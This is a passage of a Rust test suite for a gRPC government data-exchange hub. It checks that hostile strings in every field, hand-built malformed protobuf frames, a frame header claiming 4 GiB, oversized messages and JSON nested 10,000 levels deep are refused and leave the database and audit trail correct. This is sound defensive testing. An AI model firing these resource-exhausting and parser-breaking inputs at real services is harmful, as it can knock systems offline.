            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.idempotency_key),
            }
            status(samr_exchange.publish(r).await)
        }
        ("Exchange/PublishStream", _) => {
            let mut r = batch(&w.open, "hostile-stream", Vec::new());
            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.idempotency_key),
            }
            streamed(samr_exchange.publish_stream(tokio_stream::iter(vec![r])).await).await
        }
        ("Exchange/Fetch", "grant_id") => status(hrss_exchange.fetch(fetch_as(&w.cond, 0, 10, PURPOSE, &v)).await),
        ("Exchange/Fetch", _) => {
            let mut r = fetch(&w.open, 0, 10);
            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.purpose),
            }
            status(hrss_exchange.fetch(r).await)
        }
        ("Exchange/Snapshot", "grant_id") => {
            streamed(hrss_exchange.snapshot(snapshot_as(&w.cond, PURPOSE, &v)).await).await
        }
        ("Exchange/Snapshot", _) => {
            let mut r = snapshot_as(&w.open, PURPOSE, "");
            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.purpose),
            }
            streamed(hrss_exchange.snapshot(r).await).await
        }
        ("Exchange/Subscribe", "grant_id") => {
            streamed(hrss_exchange.subscribe(subscribe_as(&w.cond, 0, PURPOSE, &v)).await).await
        }
        ("Exchange/Subscribe", _) => {
            let mut r = subscribe_as(&w.open, 0, PURPOSE, "");
            match field {
                "dataset" => set(&mut r.dataset),
                "consumer" => set(&mut r.consumer),
                _ => set(&mut r.purpose),
            }
            streamed(hrss_exchange.subscribe(r).await).await
        }
        ("Exchange/Acknowledge", _) => {
            let mut r = pb::AcknowledgeRequest {
                dataset: w.open.clone(),
                consumer: "etl".into(),
                sequence: 1,
            };
            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.consumer),
            }
            status(hrss_exchange.acknowledge(r).await)
        }
        ("Exchange/GetConsumer", _) => {
            let mut r = pb::GetConsumerRequest {
                dataset: w.open.clone(),
                consumer: "etl".into(),
            };
            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.consumer),
            }
            status(hrss_exchange.get_consumer(r).await)
        }
        ("Exchange/StartUpload", _) => {
            let mut r = pb::StartUploadRequest {
                dataset: w.files.clone(),
                file_name: "notice.txt".into(),
                size: 5,
                sha256: sha256_hex(b"hello"),
            };
            match field {
                "dataset" => set(&mut r.dataset),
                "file_name" => set(&mut r.file_name),
                _ => set(&mut r.sha256),
            }
            status(samr_exchange.start_upload(r).await)
        }
        ("Exchange/GetUploadStatus", _) => status(
            samr_exchange
                .get_upload_status(pb::GetUploadStatusRequest { upload_id: v })
                .await,
        ),
        ("Exchange/UploadChunks", _) => {
            let chunk = pb::FileChunk {
                upload_id: v,
                offset: 0,
                data: b"hello".to_vec(),
            };
            status(samr_exchange.upload_chunks(tokio_stream::iter(vec![chunk])).await)
        }
        ("Exchange/DownloadFile", _) => {
            let mut r = download_as(&w.files, "annual-report.pdf", PURPOSE, "");
            match field {
                "dataset" => set(&mut r.dataset),
                "file_name" => set(&mut r.file_name),
                "purpose" => set(&mut r.purpose),
                _ => set(&mut r.grant_id),
            }
            streamed(hrss_exchange.download_file(r).await).await
        }
        ("Access/RequestAccess", _) => {
            let mut a = application(&w.cond, &["resident_id", "name"]);
            match field {
                "application.dataset" => set(&mut a.dataset),
                "application.purpose" => set(&mut a.purpose),
                "application.scope" => set(&mut a.scope),
                "application.fields[0]" => a.fields = vec![v],
                "application.period_from" => set(&mut a.period_from),
                "application.period_until" => set(&mut a.period_until),
                _ => set(&mut a.business_system),
            }
            let made = extra_access.request_access(request_access(a)).await;
            if let Ok(made) = &made {
                // Withdrawn at once: the next application is as new as this one.
                let id = made.get_ref().request_id.clone();
                ok(extra_access
                    .withdraw_request(pb::WithdrawRequestRequest { request_id: id })
                    .await);
            }
            status(made)
        }
        ("Access/ApproveRequest", "request_id") => status(
            police_access
                .approve_request(pb::ApproveRequestRequest {
                    request_id: v,
                    ..approval(&[], &[])
                })
                .await,
        ),
        ("Access/ApproveRequest", _) => {
            let mut r = approval(&[], &[]);
            r.request_id = match field {
                "note" => made.into(),
                _ => w.pending.clone(),
            };
            match field {
                "fields[0]" => r.fields = vec![v],
                "masks[0].field" => r.masks = vec![mask(&v, "name")],
                "masks[0].rule" => r.masks = vec![mask("name", &v)],
                _ => set(&mut r.note),
            }
            status(police_access.approve_request(r).await)
        }
        ("Access/RejectRequest", "request_id") => status(
            police_access
                .reject_request(pb::RejectRequestRequest {
                    request_id: v,
                    reason: "用途不符".into(),
                })
                .await,
        ),
        ("Access/RejectRequest", _) => status(
            police_access
                .reject_request(pb::RejectRequestRequest {
                    request_id: made.into(),
                    reason: v,
                })
                .await,
        ),
        ("Access/WithdrawRequest", _) => status(
            samr_access
                .withdraw_request(pb::WithdrawRequestRequest { request_id: v })
                .await,
        ),
        ("Access/GetRequest", _) => status(samr_access.get_request(get_request(&v)).await),
        ("Access/ListRequests", _) => {
            let mut r = pb::ListRequestsRequest::default();
            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.page_token),
            }
            status(samr_access.list_requests(r).await)
        }
        ("Access/GetGrant", _) => status(hrss_access.get_grant(get_grant(&v)).await),
        ("Access/ListGrants", _) => {
            let mut r = pb::ListGrantsRequest::default();
            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.page_token),
            }
            status(hrss_access.list_grants(r).await)
        }
        ("Access/RevokeGrant", "grant_id") => status(police_access.revoke_grant(revoke_grant(&v, "到期收回")).await),
        ("Access/RevokeGrant", _) => status(police_access.revoke_grant(revoke_grant(made, &v)).await),
        ("Access/ReportError", _) => {
            let mut r = pb::ReportErrorRequest {
                dataset: w.open.clone(),
                sequence: 3,
                key: Vec::new(),
                description: "注册资本有误".into(),
            };
            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.description),
            }
            status(hrss_access.report_error(r).await)
        }
        ("Access/ResolveReport", _) => {
            let mut r = pb::ResolveReportRequest {
                report_id: String::new(),
                resolution: pb::ReportState::Rejected as i32,
                reason: "经核实无误".into(),
                corrected_sequence: 0,
            };
            match field {
                "report_id" => set(&mut r.report_id),
                _ => {
                    r.report_id = made.into();
                    set(&mut r.reason);
                }
            }
            status(Access::new(w.samr.clone()).resolve_report(r).await)
        }
        ("Access/GetReport", _) => status(hrss_access.get_report(pb::GetReportRequest { report_id: v }).await),
        ("Access/ListReports", _) => {
            let mut r = pb::ListReportsRequest::default();
            match field {
                "dataset" => set(&mut r.dataset),
                _ => set(&mut r.page_token),
            }
            status(hrss_access.list_reports(r).await)
        }
        ("Audit/ListEvents", _) => {
            let mut r = pb::ListEventsRequest::default();
            match field {
                "actor" => set(&mut r.actor),
                "target" => set(&mut r.target),
                "action" => set(&mut r.action),
                _ => set(&mut r.page_token),
            }
            status(audit.list_events(r).await)
        }
        ("Evaluation/GetScorecard", _) => {
            let mut r = pb::GetScorecardRequest {
                department: SAMR.into(),
                ..Default::default()
            };
            match field {
                "department" => set(&mut r.department),
                "from" => set(&mut r.from),
                _ => set(&mut r.to),
            }
            status(evaluation.get_scorecard(r).await)
        }
        ("Evaluation/GetRanking", _) => {
            let mut r = pb::GetRankingRequest::default();
            match field {
                "from" => set(&mut r.from),
                _ => set(&mut r.to),
            }
            status(evaluation.get_ranking(r).await)
        }
        _ => panic!("no call for {rpc} {field}"),
    }
}

/// Every hostile string in every string field: the exact status each time; the refused ones
/// change nothing; the accepted ones leave every table readable.
async fn hostile_text_in_every_string_field(backend: Backend) {
    let started = Instant::now();
    let w = World::start(backend).await;
    let strings = hostile_strings();
    let mut tally = Tally::default();
    for &(rpc, field, kind) in FIELDS {
        let (refused, accepted): (Vec<_>, Vec<_>) =
            strings.iter().partition(|(_, text)| kind.expected(text) != Code::Ok);
        if !refused.is_empty() {
            let made = fixture(&w, rpc, field).await;
            let before = w.everything().await;
            for (name, text) in &refused {
                let what = format!("{rpc} {field} = {name}");
                if tally.known_bug(&what) {
                    continue;
                }
                let result = call(&w, rpc, field, &made, text.clone()).await;
                tally.check(&what, &result, kind.expected(text));
            }
            if w.everything().await != before {
                tally
                    .wrong
                    .push(format!("{rpc} {field}: a refused call changed the database"));
            }
        }
        for (name, text) in &accepted {
            let made = fixture(&w, rpc, field).await;
            let result = call(&w, rpc, field, &made, text.clone()).await;
            tally.check(&format!("{rpc} {field} = {name}"), &result, Code::Ok);
        }
    }
    tally.assert_all_right("hostile text");
    eprintln!("hostile text: {:?}", started.elapsed());
    w.finish().await;
}

// ---------------------------------------------------------------------------------------------
// Raw gRPC: bytes that no generated client would send

/// A request body the test writes as it likes: whole frames, half a frame, or nothing more while
/// the stream stays open. It ends when the sender is dropped.
struct RawBody(tokio::sync::mpsc::Receiver<Bytes>);

impl http_body::Body for RawBody {
    type Data = Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<http_body::Frame<Bytes>, Self::Error>>> {
        self.0
            .poll_recv(cx)
            .map(|bytes| bytes.map(|b| Ok(http_body::Frame::data(b))))
    }
}

/// One uncompressed gRPC frame holding `message`.
fn frame(message: &[u8]) -> Bytes {
    let mut out = Vec::with_capacity(5 + message.len());
    out.push(0);
    out.extend_from_slice(&(message.len() as u32).to_be_bytes());
    out.extend_from_slice(message);
    out.into()
}

/// A call in flight whose request body is raw bytes.
struct RawCall {
    body: tokio::sync::mpsc::Sender<Bytes>,
    response: tonic::transport::channel::ResponseFuture,
}

impl RawCall {
    /// Starts a call of `path` (`/xinqiao.v1.DirectoryService/GetDepartment`) on `channel`, with
    /// `request_id` as its x-request-id.
    async fn start(channel: &Channel, path: &str, request_id: &str) -> RawCall {
        let (body, rx) = tokio::sync::mpsc::channel(64);
        let request = http::Request::builder()
            .method("POST")
            .uri(path)
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .header("x-request-id", request_id)
            .body(tonic::body::Body::new(RawBody(rx)))
            .expect("a request");
        let mut channel = channel.clone();
        std::future::poll_fn(|cx| channel.poll_ready(cx))
            .await
            .expect("the channel is ready");
        let response = channel.call(request);
        RawCall { body, response }
    }

    async fn send(&self, bytes: Bytes) {
        self.body.send(bytes).await.expect("the body is still open");
    }

    /// Goes away without ending the request, as a client that gives up does: dropping the response
    /// resets the stream (RST_STREAM). The request body is returned, still open, to be dropped
    /// only once the test has seen the reset's effect (dropping it sooner could end the request
    /// before the reset goes out).
    #[must_use = "the request body, kept open until the reset has had its effect"]
    fn abandon(self) -> tokio::sync::mpsc::Sender<Bytes> {
        let RawCall { body, response } = self;
        drop(response);
        body
    }

    /// Ends the request body and waits for the answer: the status, and the bytes of any message.
    async fn finish(self) -> (Status, Vec<u8>) {
        drop(self.body);
        answer_of(self.response).await
    }
}

/// The status of a raw call's response (from its headers when it has no body, else from its
/// trailers), with the bytes of the messages before it.
async fn answer_of(response: tonic::transport::channel::ResponseFuture) -> (Status, Vec<u8>) {
    let response = match tokio::time::timeout(STREAM_GUARD, response).await {
        Ok(Ok(response)) => response,
        Ok(Err(e)) => return (Status::unavailable(format!("transport: {e}")), Vec::new()),
        Err(_) => panic!("no answer within {STREAM_GUARD:?}"),
    };
    if let Some(status) = Status::from_header_map(response.headers()) {
        return (status, Vec::new());
    }
    let mut body = response.into_body();
    let mut data = Vec::new();
    loop {
        let next = std::future::poll_fn(|cx| http_body::Body::poll_frame(std::pin::Pin::new(&mut body), cx));
        match tokio::time::timeout(STREAM_GUARD, next).await {
            Ok(Some(Ok(frame))) => match frame.into_data() {
                Ok(bytes) => data.extend_from_slice(&bytes),
                Err(frame) => {
                    let trailers = frame.into_trailers().unwrap_or_default();
                    let status = Status::from_header_map(&trailers)
                        .unwrap_or_else(|| Status::unknown("trailers without grpc-status"));
                    return (status, data);
                }
            },
            Ok(Some(Err(status))) => return (status, data),
            Ok(None) => return (Status::unknown("the response ended without a status"), data),
            Err(_) => panic!("the response stalled for {STREAM_GUARD:?}"),
        }
    }
}

/// A whole unary call with raw message bytes: its status.
async fn raw_unary(channel: &Channel, path: &str, request_id: &str, message: &[u8]) -> Status {
    let call = RawCall::start(channel, path, request_id).await;
    call.send(frame(message)).await;
    call.finish().await.0
}

/// Protobuf wire format, by hand.
mod wire {
    pub fn varint(mut n: u64, out: &mut Vec<u8>) {
        while n >= 0x80 {
            out.push((n as u8) | 0x80);
            n >>= 7;
        }
        out.push(n as u8);
    }

    /// Field `number` as length-delimited bytes (a string, bytes or a message).
    pub fn bytes(number: u32, value: &[u8]) -> Vec<u8> {
        let mut out = Vec::new();
        varint(u64::from(number << 3 | 2), &mut out);
        varint(value.len() as u64, &mut out);
        out.extend_from_slice(value);
        out
    }

    /// Field `number` as a varint.
    pub fn number(number: u32, value: u64) -> Vec<u8> {
        let mut out = Vec::new();
        varint(u64::from(number << 3), &mut out);
        varint(value, &mut out);
        out
    }
}

/// Bytes that are not UTF-8 (an overlong encoding of '/', a lone continuation byte, a surrogate).
const NOT_UTF8: [&[u8]; 3] = [b"\xc0\xaf", b"ok\x80", b"\xed\xa0\x80"];

/// The audit event a call with this request id left, waiting for it to be written.
async fn audited(w: &World, action: &str, request_id: &str) -> pb::AuditEvent {
    let mut audit = Audit::new(w.admin.clone());
    let deadline = Instant::now() + STREAM_GUARD;
    loop {
        let events = audit_events(
            &mut audit,
            pb::ListEventsRequest {
                action: action.into(),
                ..Default::default()
            },
        )
        .await;
        if let Some(event) = events.into_iter().rev().find(|e| e.request_id == request_id) {
            return event;
        }
        assert!(Instant::now() < deadline, "no {action} event for request {request_id}");
        tokio::task::yield_now().await;
    }
}

const DIRECTORY: &str = "/xinqiao.v1.DirectoryService/";
const SCHEMAS: &str = "/xinqiao.v1.SchemaService/";
const EXCHANGE: &str = "/xinqiao.v1.ExchangeService/";
const ACCESS: &str = "/xinqiao.v1.AccessService/";
const AUDIT: &str = "/xinqiao.v1.AuditService/";
const EVALUATION: &str = "/xinqiao.v1.EvaluationService/";

// ---------------------------------------------------------------------------------------------
// Requests that are not valid protobuf

/// How the audit layer treats a method (see `audit::kind` in the hub): lookups record refusals
/// only; the others record every call, so a malformed one is in the trail as INVALID_ARGUMENT.
#[derive(Clone, Copy, PartialEq)]
enum Trail {
    Lookup,
    Recorded,
}

/// A method, who calls it, how it is audited, and a string field (its wire number path, outermost
/// first, and its name as the hub reports it).
struct Method {
    path: String,
    action: &'static str,
    caller: Channel,
    trail: Trail,
    string_field: (&'static [u32], &'static str),
}

impl Method {
    fn new(
        service: &str,
        action: &'static str,
        caller: &Channel,
        trail: Trail,
        string_field: (&'static [u32], &'static str),
    ) -> Method {
        Method {
            path: format!("{service}{action}"),
            action,
            caller: caller.clone(),
            trail,
            string_field,
        }
    }

    /// The message with the string field set to `value`, nested as the field is.
    fn with_string(&self, value: &[u8]) -> Vec<u8> {
        let (numbers, _) = self.string_field;
        let mut message = value.to_vec();
        for number in numbers.iter().rev() {
            message = wire::bytes(*number, &message);
        }
        message
    }
}

fn methods(w: &World) -> Vec<Method> {
    use Trail::*;
    vec![
        Method::new(DIRECTORY, "RegisterDepartment", &w.admin, Recorded, (&[1], "code")),
        Method::new(DIRECTORY, "UpdateDepartment", &w.admin, Recorded, (&[2], "name")),
        Method::new(DIRECTORY, "GetDepartment", &w.samr, Lookup, (&[1], "code")),
        Method::new(DIRECTORY, "CreateEntry", &w.samr, Recorded, (&[1, 1], "content.name")),
        Method::new(
            DIRECTORY,
            "UpdateEntry",
            &w.samr,
            Recorded,
            (&[2, 5, 1], "content.items[0].name"),
        ),
        Method::new(DIRECTORY, "SearchEntries", &w.samr, Lookup, (&[1], "keyword")),
        Method::new(SCHEMAS, "RegisterSchema", &w.admin, Recorded, (&[2], "schema_json")),
        Method::new(SCHEMAS, "ValidateRecords", &w.samr, Lookup, (&[3], "records[0]")),
        Method::new(SCHEMAS, "SetCompatibility", &w.admin, Recorded, (&[1], "subject")),
        Method::new(EXCHANGE, "Publish", &w.samr, Recorded, (&[2], "idempotency_key")),
        Method::new(EXCHANGE, "Fetch", &w.hrss, Recorded, (&[4], "purpose")),
        Method::new(EXCHANGE, "Snapshot", &w.hrss, Recorded, (&[3], "purpose")),
        Method::new(EXCHANGE, "Subscribe", &w.hrss, Recorded, (&[5], "purpose")),
        Method::new(EXCHANGE, "Acknowledge", &w.hrss, Recorded, (&[2], "consumer")),
        Method::new(EXCHANGE, "StartUpload", &w.samr, Recorded, (&[2], "file_name")),
        Method::new(EXCHANGE, "DownloadFile", &w.hrss, Recorded, (&[2], "file_name")),
        Method::new(
            ACCESS,
            "RequestAccess",
            &w.extra,
            Recorded,
            (&[1, 2], "application.purpose"),
        ),
        Method::new(ACCESS, "ApproveRequest", &w.police, Recorded, (&[5], "note")),
        Method::new(ACCESS, "RevokeGrant", &w.police, Recorded, (&[2], "reason")),
        Method::new(ACCESS, "ReportError", &w.hrss, Recorded, (&[4], "description")),
        Method::new(ACCESS, "GetGrant", &w.hrss, Lookup, (&[1], "grant_id")),
        Method::new(AUDIT, "ListEvents", &w.admin, Recorded, (&[1], "actor")),
        Method::new(EVALUATION, "GetScorecard", &w.admin, Lookup, (&[1], "department")),
        Method::new(EVALUATION, "GetRanking", &w.admin, Lookup, (&[1], "from")),
    ]
}

/// Every way the bytes of a message can fail to be one: what the field is said to be, and the
/// message. `None` for the field when the bytes are no message at all.
fn malformed(method: &Method) -> Vec<(&'static str, Option<&'static str>, Vec<u8>)> {
    let (numbers, name) = method.string_field;
    let mut cases = vec![
        ("garbage", None, vec![0xff; 32]),
        ("unterminated varint", None, vec![0x08, 0xff, 0xff, 0xff]),
        ("a length past the end", None, vec![0x0a, 0x40, b'a', b'b']),
        ("field number 0", None, vec![0x02, 0x01, b'x']),
        // Field 15 opened as a group 10,000 times: past the decoder's recursion limit.
        ("10,000 nested groups", None, vec![0x7b; 10_000]),
    ];
    for bytes in NOT_UTF8 {
        cases.push(("invalid UTF-8", Some(name), method.with_string(bytes)));
    }
    // The string field sent as a varint (only the innermost one: the path names it).
    let mut wrong_type = wire::number(numbers[numbers.len() - 1], 7);
    for number in numbers[..numbers.len() - 1].iter().rev() {
        wrong_type = wire::bytes(*number, &wrong_type);
    }
    cases.push(("a string sent as a number", Some(name), wrong_type));
    cases.push(("U+0000 in a string", Some(name), method.with_string(b"a\0b")));
    cases
}

/// A request the framework cannot decode is the caller's fault: INVALID_ARGUMENT naming the field
/// when it can, on every service, unary and streaming, recorded as INVALID_ARGUMENT by the audit
/// trail; nothing changes, and the hub goes on serving.
async fn malformed_protobuf_is_invalid_argument(backend: Backend) {
    let w = World::start(backend).await;
    let before = w.everything().await;
    let mut tally = Tally::default();
    let mut serial = 0;
    for method in methods(&w) {
        for (what, field, message) in malformed(&method) {
            serial += 1;
            let request_id = format!("malformed-{serial}");
            let status = raw_unary(&method.caller, &method.path, &request_id, &message).await;
            let label = format!("{} with {what}", method.action);
            tally.check(&label, &Err::<(), _>(status.clone()), Code::InvalidArgument);
            if let Some(field) = field.filter(|_| status.code() == Code::InvalidArgument) {
                // The decoder knows a repeated field's name but not the element's position.
                let field = if what == "U+0000 in a string" {
                    field.to_string()
                } else {
                    field.replace("[0]", "")
                };
                let named = violated_fields(&status);
                if named != [field.as_str()] {
                    tally
                        .wrong
                        .push(format!("{label}: BadRequest names {named:?}, not {field}"));
                }
            }
            if method.trail == Trail::Recorded {
                let event = audited(&w, method.action, &request_id).await;
                if event.outcome != "INVALID_ARGUMENT" {
                    tally.wrong.push(format!("{label}: the trail says {}", event.outcome));
                }
            }
        }
    }

    // Framing a generated client never sends: half a frame then the end of the request, no
    // message at all, a compression flag that does not exist, two messages in a unary call.
    let create = format!("{DIRECTORY}CreateEntry");
    let entry = prost::Message::encode_to_vec(&create_request_for_framing());
    let whole = frame(&entry);
    let mut flagged = whole.to_vec();
    flagged[0] = 2;
    let framings: Vec<(&str, Vec<Bytes>, Code)> = vec![
        (
            "a unary call cut short",
            vec![whole.slice(..whole.len() / 2)],
            Code::InvalidArgument,
        ),
        ("a unary call without a message", vec![], Code::InvalidArgument),
        (
            "a unary call with compression flag 2",
            vec![Bytes::from(flagged)],
            Code::InvalidArgument,
        ),
    ];
    for (what, chunks, expected) in framings {
        if tally.known_bug(what) {
            continue;
        }
        serial += 1;
        let call = RawCall::start(&w.samr, &create, &format!("malformed-{serial}")).await;
        for chunk in chunks {
            call.send(chunk).await;
        }
        let (status, _) = call.finish().await;
        tally.check(what, &Err::<(), _>(status), expected);
    }
    // Client streams: the bad message comes after the stream started.
    for (action, caller) in [("PublishStream", &w.samr), ("UploadChunks", &w.samr)] {
        for (what, bytes) in [
            ("garbage", vec![0xff; 32]),
            ("invalid UTF-8", wire::bytes(1, b"\xc0\xaf")),
        ] {
            serial += 1;
            let request_id = format!("malformed-{serial}");
            let path = format!("{EXCHANGE}{action}");
            let (status, _) = {
                let call = RawCall::start(caller, &path, &request_id).await;
                call.send(frame(&bytes)).await;
                call.finish().await
            };
            tally.check(
                &format!("{action} with {what}"),
                &Err::<(), _>(status),
                Code::InvalidArgument,
            );
            let event = audited(&w, action, &request_id).await;
            if event.outcome != "INVALID_ARGUMENT" {
                tally
                    .wrong
                    .push(format!("{action} with {what}: the trail says {}", event.outcome));
            }
        }
    }
    assert_eq!(w.everything().await, before, "a malformed request changed the database");

    // Two messages where a unary call takes one: tonic acts on the first and ignores the second
    // (gRPC calls this a protocol violation; grpc-go refuses it). One entry, not two.
    let call = RawCall::start(&w.samr, &create, "two-messages").await;
    call.send(whole.clone()).await;
    call.send(whole.clone()).await;
    let (status, _) = call.finish().await;
    tally.check("a unary call with two messages", &Err::<(), _>(status), Code::Ok);
    let named = |e: &&xinqiao_domain::catalogue::CatalogEntry| e.content.name == "框架测试";
    let after = w.hub.snapshot().await;
    assert_eq!(
        after.entries.iter().filter(named).count(),
        1,
        "only the first message is acted on"
    );
    tally.assert_all_right("malformed protobuf");
    w.finish().await;
}

// ---------------------------------------------------------------------------------------------
// Oversized messages

/// The message limit the oversize test configures.
const SMALL_LIMIT: usize = 64 * 1024;

/// Messages over `limits.max_message_bytes` are RESOURCE_EXHAUSTED on every service, unary and
/// streaming, generated or raw (a frame header claiming 4 GiB), and change nothing; a message
/// just under the limit goes through on the same connection.
async fn oversized_messages_are_resource_exhausted(backend: Backend) {
    let hub = TestHub::start_with(backend, |config| config.limits.max_message_bytes = SMALL_LIMIT).await;
    let w = World::start_hub(hub).await;
    let before = w.everything().await;
    let mut tally = Tally::default();
    let big = "大".repeat(SMALL_LIMIT / 3 + 1000);
    let exhausted = Code::ResourceExhausted;

    let mut samr = Directory::new(w.samr.clone());
    let mut admin = Directory::new(w.admin.clone());
    let big_content = pb::EntryContent {
        summary: big.clone(),
        ..content("企业登记信息", "102001", "")
    };
    tally.check(
        "CreateEntry",
        &samr.create_entry(create(big_content.clone())).await,
        exhausted,
    );
    tally.check(
        "UpdateEntry",
        &samr.update_entry(update(&w.draft, big_content)).await,
        exhausted,
    );
    tally.check(
        "RegisterDepartment",
        &admin.register_department(register_request(&uscc(6001), &big)).await,
        exhausted,
    );
    tally.check("SearchEntries", &samr.search_entries(keyword(&big)).await, exhausted);
    let items = (0..3000).map(|i| item(&format!("信息项{i}"), "字符型", 10)).collect();
    let many_items = pb::EntryContent {
        items,
        ..content("企业登记信息", "102001", "摘要")
    };
    tally.check(
        "CreateEntry (3,000 items)",
        &samr.create_entry(create(many_items)).await,
        exhausted,
    );

    let mut schemas = Schemas::new(w.admin.clone());
    let schema = format!(r#"{{"type":"object","description":"{big}"}}"#);
    tally.check(
        "RegisterSchema",
        &schemas
            .register_schema(pb::RegisterSchemaRequest {
                subject: "big".into(),
                schema_json: schema.clone(),
            })
            .await,
        exhausted,
    );
    tally.check(
        "ValidateRecords",
        &schemas
            .validate_records(pb::ValidateRecordsRequest {
                subject: LEGAL_ENTITY.into(),
                records: vec![big.clone()],
                ..Default::default()
            })
            .await,
        exhausted,
    );

    let mut samr_exchange = Exchange::new(w.samr.clone());
    let mut hrss_exchange = Exchange::new(w.hrss.clone());
    let big_batch = batch(
        &w.open,
        "big",
        vec![upsert(&company_named(9, &"名".repeat(SMALL_LIMIT / 3 + 100)))],
    );
    tally.check("Publish", &samr_exchange.publish(big_batch.clone()).await, exhausted);
    tally.check(
        "PublishStream",
        &first_message(samr_exchange.publish_stream(tokio_stream::iter(vec![big_batch])).await).await,
        exhausted,
    );
    tally.check(
        "Fetch",
        &hrss_exchange.fetch(fetch_as(&w.open, 0, 10, &big, "")).await,
        exhausted,
    );
    tally.check(
        "Subscribe",
        &first_message(hrss_exchange.subscribe(subscribe_as(&w.open, 0, &big, "")).await).await,
        exhausted,
    );
    let chunk = pb::FileChunk {
        upload_id: w.upload.clone(),
        offset: 10,
        data: vec![7; SMALL_LIMIT + 1],
    };
    tally.check(
        "UploadChunks",
        &samr_exchange.upload_chunks(tokio_stream::iter(vec![chunk])).await,
        exhausted,
    );

    let mut access = Access::new(w.extra.clone());
    let mut big_application = application(&w.cond, &["resident_id"]);
    big_application.purpose = big.clone();
    tally.check(
        "RequestAccess",
        &access.request_access(request_access(big_application)).await,
        exhausted,
    );
    tally.check(
        "ReportError",
        &Access::new(w.hrss.clone())
            .report_error(pb::ReportErrorRequest {
                dataset: w.open.clone(),
                sequence: 1,
                key: vec![b'['; SMALL_LIMIT + 1],
                description: "有误".into(),
            })
            .await,
        exhausted,
    );
    tally.check(
        "ListEvents",
        &Audit::new(w.admin.clone())
            .list_events(pb::ListEventsRequest {
                actor: big.clone(),
                ..Default::default()
            })
            .await,
        exhausted,
    );
    tally.check(
        "GetRanking",
        &Evaluation::new(w.admin.clone())
            .get_ranking(pb::GetRankingRequest {
                from: big.clone(),
                to: String::new(),
            })
            .await,
        exhausted,
    );

    // A frame header claiming 4 GiB, followed by a few bytes: refused from the header alone.
    for (service, action) in [
        (DIRECTORY, "CreateEntry"),
        (EXCHANGE, "Publish"),
        (EXCHANGE, "PublishStream"),
        (EXCHANGE, "UploadChunks"),
    ] {
        let request_id = format!("four-gigabytes-{action}");
        let call = RawCall::start(&w.samr, &format!("{service}{action}"), &request_id).await;
        call.send(Bytes::from_static(b"\x00\xff\xff\xff\xff\x0a\x02ab")).await;
        let (status, _) = call.finish().await;
        tally.check(&format!("{action} claiming 4 GiB"), &Err::<(), _>(status), exhausted);
        // The trail records what the caller was told.
        if tally.known_bug(&format!("the trail of {action} claiming 4 GiB")) {
            continue;
        }
        let event = audited(&w, action, &request_id).await;
        if event.outcome != "RESOURCE_EXHAUSTED" {
            tally
                .wrong
                .push(format!("{action} claiming 4 GiB: the trail says {}", event.outcome));
        }
    }
    tally.assert_all_right("oversized messages");
    assert_eq!(
        w.everything().await,
        before,
        "an oversized request changed the database"
    );

    // Just under the limit, on the same connections, goes through.
    let near = pb::EntryContent {
        summary: "大".repeat(3000),
        ..content("企业登记信息", "102001", "")
    };
    ok(samr.create_entry(create(near)).await);
    w.finish().await;
}

// ---------------------------------------------------------------------------------------------
// Deeply nested and huge JSON

/// JSON nested `depth` levels: arrays, or objects keyed `a`.
fn nested_array(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

fn nested_object(depth: usize) -> String {
    format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth))
}

/// JSON 10,000 levels deep and JSON of megabytes, wherever the API takes JSON (schemas, records,
/// record keys): refused precisely, or reported as an invalid record, and nothing is stored.
async fn deep_and_huge_json_is_refused(backend: Backend) {
    let w = World::start(backend).await;
    let before = w.everything().await;
    let mut tally = Tally::default();
    let mut schemas = Schemas::new(w.admin.clone());
    let mut samr_exchange = Exchange::new(w.samr.clone());
    let mut hrss_access = Access::new(w.hrss.clone());
    let deep = [
        ("10,000 nested arrays", nested_array(10_000)),
        ("10,000 nested objects", nested_object(10_000)),
        ("200 nested objects", nested_object(200)),
        (
            "a schema 1,000 levels deep",
            format!(
                "{}{}",
                r#"{"type":"object","properties":{"a":"#.repeat(1000),
                "}}".repeat(1000)
            ),
        ),
        (
            "300 KiB of schema",
            format!(r#"{{"type":"object","description":"{}"}}"#, "x".repeat(300 * 1024)),
        ),
        (
            "60,000 properties",
            format!(
                r#"{{"type":"object","properties":{{{}}}}}"#,
                (0..60_000)
                    .map(|i| format!(r#""p{i}":{{"type":"string"}}"#))
                    .collect::<Vec<_>>()
                    .join(",")
            ),
        ),
    ];
    for (what, json) in &deep {
        let register = schemas
            .register_schema(pb::RegisterSchemaRequest {
                subject: "deep".into(),
                schema_json: json.clone(),
            })
            .await;
        // Over MAX_SCHEMA_BYTES (256 KiB) is a size limit; the rest does not parse.
        let expected = if json.len() > 256 * 1024 {
            Code::ResourceExhausted
        } else {
            Code::InvalidArgument
        };
        tally.check(&format!("RegisterSchema with {what}"), &register, expected);
        let check = schemas
            .check_compatibility(pb::CheckCompatibilityRequest {
                subject: LEGAL_ENTITY.into(),
                schema_json: json.clone(),
                mode: 0,
            })
            .await;
        tally.check(&format!("CheckCompatibility with {what}"), &check, expected);
    }

    // Records: a dry run reports them, a batch refuses them whole and stores nothing.
    let records = [
        ("10,000 nested arrays", nested_array(10_000)),
        ("10,000 nested objects", nested_object(10_000)),
        ("a company 10,000 levels deep", {
            let mut record = company(50).to_string();
            record.insert_str(record.len() - 1, &format!(r#","deep":{}"#, nested_array(10_000)));
            record
        }),
        ("100,000 keys", {
            let keys: Vec<String> = (0..100_000).map(|i| format!(r#""k{i}":0"#)).collect();
            format!("{{{}}}", keys.join(","))
        }),
    ];
    for (what, record) in &records {
        let dry = schemas
            .validate_records(pb::ValidateRecordsRequest {
                subject: LEGAL_ENTITY.into(),
                records: vec![record.clone()],
                ..Default::default()
            })
            .await;
